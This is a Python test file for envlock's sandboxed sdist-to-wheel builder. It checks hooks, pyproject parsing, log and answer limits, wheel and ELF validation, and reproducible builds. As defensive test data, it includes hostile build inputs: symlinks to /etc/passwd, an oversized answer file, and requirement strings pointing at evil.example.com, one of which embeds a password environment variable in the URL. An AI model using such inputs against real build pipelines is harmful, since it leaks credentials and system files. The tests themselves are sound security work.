"""Building a wheel of an sdist: steps, environment and errors, with a sandbox that only pretends."""

from __future__ import annotations

import io
import json
import tarfile
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path
from typing import IO, Any

import pytest

from envlock.errors import EnvlockError, UsageError
from envlock.formats.elf import Elf
from envlock.locking import build_environment, built_wheel, sdist
from envlock.locking.sdist import ENVIRONMENT, BuiltWheel, build_wheel
from envlock.model.artifact import Requirement
from envlock.model.edges import NoProgress
from envlock.model.platform import Platform
from tests.unit.wheels import make_wheel

PYTHON = "/usr/bin/python3.9"
AMD64 = Platform("linux", "amd64")


class Ended:
    """A process that is over, with what it said."""

    def __init__(self, status: int, out: bytes) -> None:
        self.stdin: IO[bytes] | None = io.BytesIO()
        self.stdout: IO[bytes] | None = io.BytesIO(out)
        self.stderr: IO[bytes] | None = io.BytesIO()
        self._status = status

    def wait(self, timeout: float | None = None) -> int:
        return self._status

    def kill(self) -> None:
        pass


Hook = Callable[[Path, dict[str, Any]], object]


class PretendedRoot:
    """A sandbox where hooks are functions of the work folder and the request; what they return is the answer."""

    def __init__(self, build: Hook, asks: Sequence[str] = (), status: int = 0) -> None:
        self.build = build
        self.asks = list(asks)
        self.status = status
        self.requests: list[dict[str, Any]] = []
        self.seen: list[set[str]] = []

    def start(
        self,
        root: Path,
        argv: Sequence[str],
        *,
        environment: Mapping[str, str],
        binds: Mapping[str, Path] | None = None,
    ) -> Ended:
        assert (argv[0], argv[1], environment) == (PYTHON, "-c", ENVIRONMENT)
        assert binds is not None
        request: dict[str, Any] = json.loads(argv[-1])
        work = binds["/build"]
        self.requests.append(request)
        self.seen.append({str(path.relative_to(work)) for path in work.rglob("*") if path.is_file()})
        (work / "home" / "litter").write_text("of a hook")
        result = self.asks if request["hook"] == "get_requires_for_build_wheel" else self.build(work, request)
        if result is not None:
            answer = {"result": result, "python": "3.9", "glibc": "2.31", "machine": "x86_64"}
            (work / "answer.json").write_text(json.dumps(answer))
        return Ended(0 if request["hook"] != "build_wheel" else self.status, f"{request['hook']}\n".encode())


def makes(name: str = "demo", version: str = "1.0", tag: str = "py3-none-any", **more: Any) -> Hook:
    """A hook that makes a wheel."""
    return lambda work, _: make_wheel(work / "out", name, version, tag=tag, **more).name


@pytest.fixture
def run(tmp_path: Path) -> Callable[..., BuiltWheel]:
    """Build the sdist of demo 1.0, of the given files, in a pretended root."""
    tools = [make_wheel(tmp_path, "setuptools", "56.2.0"), make_wheel(tmp_path, "wheel", "0.36.2")]

    def build(
        root: PretendedRoot, files: dict[str, str] | None = None, *, twice: bool = False, asked: list[Any] | None = None
    ) -> BuiltWheel:
        source = tmp_path / "demo-1.0.tar.gz"
        with tarfile.open(source, "w:gz") as archive:
            for name, text in (files or {"setup.py": ""}).items():
                info = tarfile.TarInfo(f"demo-1.0/{name}")
                info.size = len(text.encode())
                archive.addfile(info, io.BytesIO(text.encode()))

        def requires(wanted: Sequence[str]) -> tuple[list[Requirement], list[Path]]:
            if asked is not None:
                asked.append(list(wanted))
            chosen = tools[: len(wanted)]
            return [
                Requirement(name=path.name.split("-")[0], version="1", file=path.name, size=1, sha256="0" * 64)
                for path in reversed(chosen)
            ], chosen[::-1]

        return build_wheel(
            source,
            name="demo",
            version="1.0",
            root=tmp_path,
            sandbox=root,
            requires=requires,
            interpreter=PYTHON,
            destination=tmp_path / "built",
            progress=NoProgress(),
            twice=twice,
        )

    return build


def test_old_setup_py(run: Callable[..., BuiltWheel], tmp_path: Path) -> None:
    """Without a pyproject.toml setuptools builds, and what it asks for is there the second time."""
    asked: list[Any] = []
    root = PretendedRoot(makes(), asks=["wheel"])
    built = run(root, asked=asked)
    assert asked == [["setuptools>=40.8.0"], ["setuptools>=40.8.0", "wheel"]]
    assert root.requests[1] == {
        "hook": "build_wheel",
        "arguments": ["/build/out", None, None],
        "source": "/build/source/demo-1.0",
        "backend": "setuptools.build_meta:__legacy__",
        "backend_path": [],
        "answer": "/build/answer.json",
    }
    assert built.path == tmp_path / "built" / built.sha256[:16] / "demo-1.0-py3-none-any.whl"
    assert built.size == built.path.stat().st_size
    assert [requirement.name for requirement in built.build.requires] == ["setuptools", "wheel"]
    assert built.build.sdist.name == "demo-1.0.tar.gz"
    assert sorted(path.name for path in (tmp_path / "built").iterdir()) == sorted([built.sha256[:16], "demo-1.0.log"])


def test_each_hook_begins_with_the_source_as_published(run: Callable[..., BuiltWheel]) -> None:
    """What a first hook leaves behind is not there for the next."""
    root = PretendedRoot(makes(), asks=["wheel"])
    run(root)
    assert "environment/lib/setuptools/__init__.py" in root.seen[0]
    assert "environment/lib/wheel/__init__.py" in root.seen[1]
    assert not any(name.startswith(("home/", "out/", "answer")) for seen in root.seen for name in seen)


def test_pyproject(run: Callable[..., BuiltWheel]) -> None:
    """The named backend is called, from the source's own folder where it says so."""
    text = '[build-system]\nrequires = ["flit_core"]\nbuild-backend = "own.backend:api"\nbackend-path = ["tools"]\n'
    asked: list[Any] = []
    root = PretendedRoot(makes())
    run(root, {"pyproject.toml": text}, asked=asked)
    assert asked == [["flit_core"]]
    assert (root.requests[0]["backend"], root.requests[0]["backend_path"]) == ("own.backend:api", ["tools"])


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("[build-system\n", "Expected ']' at the end of a table declaration (at line 1, column 14)"),
        ("[build-system]\n", "Object missing required field `requires`"),
        ("[build-system]\nrequires = 'a'\n", "Expected `array`, got `str` - at `$.requires`"),
    ],
)
def test_bad_pyproject(run: Callable[..., BuiltWheel], text: str, found: str) -> None:
    """The place and the reason are said."""
    with pytest.raises(UsageError) as caught:
        run(PretendedRoot(makes()), {"pyproject.toml": text})
    assert (caught.value.reference, caught.value.where) == ("bad-pyproject", "demo-1.0/pyproject.toml")
    assert caught.value.found == found


def test_tool_tables_alone_change_nothing(run: Callable[..., BuiltWheel]) -> None:
    """A pyproject.toml without [build-system] is as good as none."""
    root = PretendedRoot(makes())
    run(root, {"pyproject.toml": "[tool.black]\n"})
    assert root.requests[0]["backend"] == "setuptools.build_meta:__legacy__"


def test_failing_build_shows_the_end_of_its_log(run: Callable[..., BuiltWheel], tmp_path: Path) -> None:
    """The log is kept, and its end is in the error."""
    with pytest.raises(UsageError) as caught:
        run(PretendedRoot(lambda *_: None, status=1))
    error = caught.value
    assert str(error).splitlines()[0] == (
        "demo 1.0 could not be built from its source distribution: build_wheel ended with status 1. [build-failed]"
    )
    assert (error.where, error.found) == (
        str(tmp_path / "built" / "demo-1.0.log"),
        "get_requires_for_build_wheel\nbuild_wheel",
    )
    assert "build-packages" in error.hint


def test_a_build_that_never_stops_talking_is_ended(
    run: Callable[..., BuiltWheel], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A hostile build cannot fill the disk with its log."""
    monkeypatch.setattr("envlock.locking.sdist._LOG_LIMIT", 8)
    with pytest.raises(UsageError, match="said more than 0 MiB, and was ended"):
        run(PretendedRoot(makes()))


def _without_a_wheel(work: Path, _: object) -> str:
    return "demo-1.0-py3-none-any.whl"


def _with_two(work: Path, _: object) -> str:
    make_wheel(work / "out", "other")
    return make_wheel(work / "out").name


def _with_a_link(work: Path, _: object) -> str:
    (work / "out" / "demo-1.0-py3-none-any.whl").symlink_to("/etc/passwd")
    return "demo-1.0-py3-none-any.whl"


@pytest.mark.parametrize(
    ("hook", "made"),
    [
        (_without_a_wheel, "none"),
        (_with_two, "demo-1.0-py3-none-any.whl, other-1.0-py3-none-any.whl"),
        (_with_a_link, "none"),
    ],
)
def test_exactly_one_wheel(run: Callable[..., BuiltWheel], hook: Hook, made: str) -> None:
    """No wheel, several, or a link to somewhere else are refused."""
    with pytest.raises(UsageError, match=f"it should have made one wheel, and made {made}"):
        run(PretendedRoot(hook))


def _link_for_an_answer(work: Path, _: object) -> None:
    (work / "answer.json").symlink_to("/etc/passwd")


def _nonsense_for_an_answer(work: Path, _: object) -> None:
    (work / "answer.json").write_text('{"result": "a", "python": "3", "glibc": "new", "machine": "x"}')


@pytest.mark.parametrize("hook", [_link_for_an_answer, _nonsense_for_an_answer, lambda *_: None])
def test_answer_is_not_trusted(run: Callable[..., BuiltWheel], hook: Hook) -> None:
    """A hostile build cannot make envlock read another file, nor crash it."""
    with pytest.raises(UsageError, match="build_wheel left no answer"):
        run(PretendedRoot(hook))


@pytest.mark.parametrize(
    ("hook", "what", "found"),
    [
        (makes("other"), "it is another distribution", "other 1.0"),
        (makes(version="2.0"), "it is another distribution", "demo 2.0"),
        (
            makes(tag="cp311-cp311-linux_x86_64"),
            "its tags do not fit CPython 3.9 on linux/amd64, glibc 2.31",
            "demo-1.0-cp311-cp311-linux_x86_64.whl",
        ),
    ],
)
def test_unfit_wheels(run: Callable[..., BuiltWheel], hook: Hook, what: str, found: str) -> None:
    """Another name, version or target than was asked for."""
    with pytest.raises(UsageError) as caught:
        run(PretendedRoot(hook))
    assert (caught.value.reference, caught.value.found) == ("wheel-unfit", found)
    assert caught.value.what == f"The wheel that was built does not fit: {what}."


def test_unrecorded_file_in_the_wheel(run: Callable[..., BuiltWheel]) -> None:
    """The rules for wheels hold for those built here."""
    with pytest.raises(EnvlockError) as caught:
        run(PretendedRoot(makes(extra=(("demo/evil.py", b"1"),))))
    assert caught.value.reference == "bad-record"


def test_other_bytes_the_second_time(run: Callable[..., BuiltWheel]) -> None:
    """A build that depends on something unknown cannot be locked."""
    times = iter(range(9))
    root = PretendedRoot(lambda work, _: make_wheel(work / "out", files={"demo/a.py": b"%d" % next(times)}).name)
    with pytest.raises(UsageError) as caught:
        run(root, twice=True)
    assert caught.value.reference == "not-reproducible"
    assert caught.value.what == "demo 1.0 came out differently when it was built a second time."
    assert caught.value.expected != caught.value.found


def test_same_bytes_the_second_time(run: Callable[..., BuiltWheel]) -> None:
    """Both builds begin anew, and one wheel is kept."""
    root = PretendedRoot(makes())
    built = run(root, twice=True)
    assert [request["hook"] for request in root.requests] == [
        "get_requires_for_build_wheel",
        "build_wheel",
        "build_wheel",
    ]
    assert built.path.is_file()


def elf(**fields: Any) -> Elf:
    """A shared object for x86_64."""
    whole: dict[str, Any] = {"machine": "x86_64", "bits": 64, "type": 3} | fields
    return Elf(**whole)


@pytest.mark.parametrize(
    ("library", "problem"),
    [
        (elf(needed=("libc.so.6", "libm.so.6", "libown.so")), None),
        (elf(runpath="$ORIGIN/../demo.libs:${ORIGIN}"), None),
        (elf(versions=(("libc.so.6", "GLIBC_2.31"),)), None),
        (elf(machine="aarch64"), ("is for another machine", "aarch64", "x86_64")),
        (
            elf(runpath="$ORIGIN:/usr/local/lib"),
            (
                "looks for libraries where only the machine that built it has them",
                "$ORIGIN:/usr/local/lib",
                "no run path",
            ),
        ),
        (
            elf(versions=(("libc.so.6", "GLIBC_2.33"),)),
            ("needs a newer glibc", "2.33", "at most 2.31"),
        ),
        (
            elf(needed=("libc.so.6", "libgomp.so.1")),
            ("needs libraries that the base does not have", "libgomp.so.1", "libraries of the recipe's packages"),
        ),
    ],
)
def test_libraries_must_be_in_the_base(tmp_path: Path, library: Elf, problem: tuple[str, str, str] | None) -> None:
    """Machine, run path, glibc and needed libraries, each with what was found."""
    (tmp_path / "usr/lib/x86_64-linux-gnu").mkdir(parents=True)
    (tmp_path / "usr/lib/x86_64-linux-gnu/libc.so.6").touch()
    (tmp_path / "usr/lib/x86_64-linux-gnu/libm.so.6").symlink_to("/nowhere/libm-2.31.so")
    assert built_wheel._problem(library, AMD64, "2.31", {"libown.so"}, tmp_path) == problem


def test_build_environment(tmp_path: Path) -> None:
    """Libraries for PYTHONPATH, programs for PATH that name the root's interpreter."""
    scripts = b"#!python\nprint('here')\n"
    points = b"[console_scripts]\ndemo = demo.cli:app.main\n"
    wheel = make_wheel(
        tmp_path,
        files={
            "demo/__init__.py": b"",
            "demo-1.0.data/scripts/tool": scripts,
            "demo-1.0.data/scripts/binary": b"\x7fELF",
            "demo-1.0.data/data/share/x": b"x",
            "demo-1.0.data/headers/demo.h": b"h",
            "demo-1.0.dist-info/entry_points.txt": points,
        },
    )
    requirement = Requirement(name="demo", version="1.0", file=wheel.name, size=1, sha256="0" * 64)
    folder = tmp_path / "environment"
    build_environment.install([requirement], [wheel], folder, interpreter=PYTHON)
    assert (folder / "lib/demo/__init__.py").is_file()
    assert (folder / "share/x").read_bytes() == b"x"
    assert (folder / "include/demo.h").read_bytes() == b"h"
    assert (folder / "bin/tool").read_bytes() == b"#!/usr/bin/python3.9\nprint('here')\n"
    assert (folder / "bin/binary").read_bytes() == b"\x7fELF"
    assert (folder / "bin/demo").read_text() == (
        "#!/usr/bin/python3.9\nimport sys\nfrom demo.cli import app\nsys.exit(app.main())\n"
    )
    assert (folder / "bin/python3").readlink() == Path(PYTHON)
    assert {oct(path.stat().st_mode & 0o777) for path in (folder / "bin").iterdir() if not path.is_symlink()} == {
        "0o755"
    }


def test_build_requirements_in_conflict(tmp_path: Path) -> None:
    """Two requirements that bring the same file are named."""
    wheels = [make_wheel(tmp_path, name, files={"shared.py": b"1"}) for name in ("one", "two")]
    rows = [Requirement(name=path.name, version="1", file=path.name, size=1, sha256="0" * 64) for path in wheels]
    with pytest.raises(EnvlockError) as caught:
        build_environment.install(rows, wheels, tmp_path / "environment", interpreter=PYTHON)
    assert (caught.value.reference, caught.value.found) == ("build-requirement", "shared.py")


def test_environment_of_builds_is_fixed() -> None:
    """Nothing of this machine, and a time that never changes."""
    assert sdist.ENVIRONMENT["SOURCE_DATE_EPOCH"] == "315532800"
    assert sdist.ENVIRONMENT["PYTHONHASHSEED"] == "0"


@pytest.mark.parametrize("entry", [True, False], ids=["entry point", "script"])
def test_a_requirement_never_writes_through_the_interpreters_link(tmp_path: Path, *, entry: bool) -> None:
    """`bin/python` leads to a file of this machine; a wheel with a program of that name is refused, the file kept."""
    host = tmp_path / "host-python"
    host.write_text("precious")
    files = (
        {"demo-1.0.dist-info/entry_points.txt": b"[console_scripts]\npython = demo:main\n"}
        if entry
        else {"demo-1.0.data/scripts/python": b"#!python\n"}
    )
    wheel = make_wheel(tmp_path, files=files)
    row = Requirement(name="demo", version="1.0", file=wheel.name, size=1, sha256="0" * 64)
    with pytest.raises(EnvlockError, match="build-requirement"):
        build_environment.install([row], [wheel], tmp_path / "environment", interpreter=str(host))
    assert host.read_text() == "precious"


@pytest.mark.parametrize(
    "hostile",
    [
        "--index-url=https://evil.example.com/simple",
        "-r /etc/hostname",
        "demo @ https://evil.example.com/${UV_INDEX_OWN_PASSWORD}/demo-1.0-py3-none-any.whl",
        "demo @ file:///demo-1.0-py3-none-any.whl",
    ],
)
def test_builds_require_releases_of_an_index(run: Callable[..., BuiltWheel], hostile: str) -> None:
    """Neither pyproject.toml nor a backend may name options of the resolver, files or URLs."""
    asked: list[Any] = []
    pyproject = f"[build-system]\nrequires = [{json.dumps(hostile)}]\n"
    with pytest.raises(UsageError, match="bad-pyproject"):
        run(PretendedRoot(makes()), {"pyproject.toml": pyproject}, asked=asked)
    assert asked == []
    with pytest.raises(UsageError, match="bad-pyproject"):
        run(PretendedRoot(makes(), asks=[hostile]), asked=asked)
    assert asked == [["setuptools>=40.8.0"]]


def test_an_endless_answer_is_not_read(run: Callable[..., BuiltWheel]) -> None:
    """Of what a hostile build leaves in place of its answer, no more than an answer may have is read."""

    def build(work: Path, _: dict[str, Any]) -> None:
        with (work / "answer.json").open("wb") as file:
            file.truncate(1 << 36)

    with pytest.raises(UsageError, match="left no answer"):
        run(PretendedRoot(build))
